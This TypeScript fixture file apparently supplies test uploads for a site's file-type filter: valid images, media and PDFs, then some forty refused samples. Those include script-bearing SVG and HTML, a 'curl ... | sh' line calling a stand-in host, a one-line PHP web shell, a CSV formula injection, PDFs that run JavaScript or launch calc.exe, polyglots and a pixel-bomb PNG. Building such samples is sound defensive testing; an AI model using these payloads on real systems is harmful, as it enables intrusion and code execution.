import { crc32 } from 'node:zlib'
import sharp from 'sharp'

const drawn = (side = 120) =>
  sharp({ create: { width: side, height: side, channels: 3, background: '#3366cc' } })
const pdf = (inside = '') =>
  Buffer.from(`%PDF-1.7\n1 0 obj<</Type/Catalog${inside}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`)
const box = (brand: string) =>
  Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from(`ftyp${brand}\0\0\0\0${brand}mp41`)])

/** Files of the kinds that the site accepts. */
export const goodFiles = async () => ({
  jpg: await drawn().jpeg().toBuffer(),
  png: await drawn().png().toBuffer(),
  webp: await drawn().webp().toBuffer(),
  pdf: pdf(),
  mp4: box('isom'),
  m4a: box('M4A '),
  mp3: aSound(),
})

/** Frames of silence at 128 kbit/s, 44.1 kHz; the tag names who made it. */
export function aSound({ frames = 40, behind = '' } = {}) {
  const frame = Buffer.alloc(417)
  frame.set([0xff, 0xfb, 0x90, 0x00])
  const maker = Buffer.from('TPE1\0\0\0\u0007\0\0\0Rohini', 'latin1')
  return Buffer.concat([
    Buffer.from('ID3\u0003\0\0\0\0\0', 'latin1'),
    Buffer.from([maker.length]),
    maker,
    ...Array.from({ length: frames }, () => frame),
    Buffer.from(behind),
  ])
}

/** A small PNG that claims to be 60,000 pixels wide and high. */
function bomb(png: Buffer) {
  const large = Buffer.from(png)
  large.writeUInt32BE(60_000, 16)
  large.writeUInt32BE(60_000, 20)
  large.writeUInt32BE(crc32(large.subarray(12, 29)), 29)
  return large
}

/** Forty files that are refused, whatever their names. */
export async function badFiles(): Promise<readonly (readonly [name: string, bytes: Buffer])[]> {
  const { jpg, png, webp } = await goodFiles()
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
  const html = '<!doctype html><script>alert(1)</script>'
  const texts = {
    svg: svg,
    'svg with a prologue': `<?xml version="1.0"?>${svg}`,
    'svg with a doctype': `<!DOCTYPE svg>${svg}`,
    'svg behind spaces': `\n\n   ${svg}`,
    'svg with a byte order mark': `\ufeff${svg}`,
    'svg of another name space': '<x:svg xmlns:x="http://www.w3.org/2000/svg"/>',
    html: html,
    'html in capitals': html.toUpperCase(),
    'html behind a comment': `<!-- ${'x'.repeat(500)} -->${html}`,
    'html without a doctype': '<script>alert(1)</script>',
    xhtml: '<html xmlns="http://www.w3.org/1999/xhtml"/>',
    javascript: 'alert(document.cookie)',
    'javascript module': 'export default fetch("https://elsewhere.example")',
    'shell script': '#!/bin/sh\ncurl https://elsewhere.example | sh',
    php: '<?php system($_GET["c"]);',
    python: '#!/usr/bin/env python3\nimport os',
    css: 'body{background:url(https://elsewhere.example)}',
    json: '{"role_id":5}',
    csv: '=cmd|"/c calc"!A1',
    'plain text': 'hello',
    'data address': `data:image/png;base64,${png.toString('base64')}`,
    gif: 'GIF89a\x01\0\x01\0\0\0\0;',
    bitmap: 'BM\0\0\0\0',
    zip: 'PK\x03\x04',
    'windows program': 'MZ\x90\0',
    'linux program': '\x7fELF',
    'web assembly': '\0asm\x01\0\0\0',
    'riff that is not webp': 'RIFF\0\0\0\0WAVE',
    postscript: '%!PS-Adobe-3.0',
    'html with the start of a pdf in it': `${html}%PDF-1.7\n%%EOF`,
    'pdf without an end': '%PDF-1.7\nhello',
  }
  return [
    ...Object.entries(texts).map(([name, text]) => [name, Buffer.from(text, 'latin1')] as const),
    ['pdf with a script', pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
    ['pdf that starts a program', pdf('/AA<</O<</S/Launch/F(calc.exe)>>>>')],
    ['pdf with a file in it', pdf('/Names<</EmbeddedFiles 2 0 R/EmbeddedFile 3 0 R>>')],
    ['quicktime', box('qt  ')],
    ['heic', box('heic')],
    ['avif', box('avif')],
    ['nothing', Buffer.alloc(0)],
    ['zeros', Buffer.alloc(4096)],
    ['jpeg behind html', Buffer.concat([Buffer.from(html), jpg])],
    ['png behind a line', Buffer.concat([Buffer.from('\n'), png])],
    ['webp cut before its name', webp.subarray(0, 8)],
  ]
}

/** Start like pictures, but cannot be shown. */
export async function brokenPictures(): Promise<readonly (readonly [string, Buffer])[]> {
  const { jpg, png, webp, pdf: document, mp4 } = await goodFiles()
  return [
    ['a jpeg cut in half', jpg.subarray(0, jpg.length / 2)],
    ['html that begins like a jpeg', Buffer.concat([jpg.subarray(0, 3), Buffer.from('<script>')])],
    ['html that begins like a png', Buffer.concat([png.subarray(0, 8), Buffer.from('<script>')])],
    ['html that begins like a webp', Buffer.concat([webp.subarray(0, 12), Buffer.from('<html>')])],
    ['a picture of too many pixels', bomb(png)],
    ['a picture of a few pixels', await drawn(20).png().toBuffer()],
    ['a document', document],
    ['a film', mp4],
  ]
}
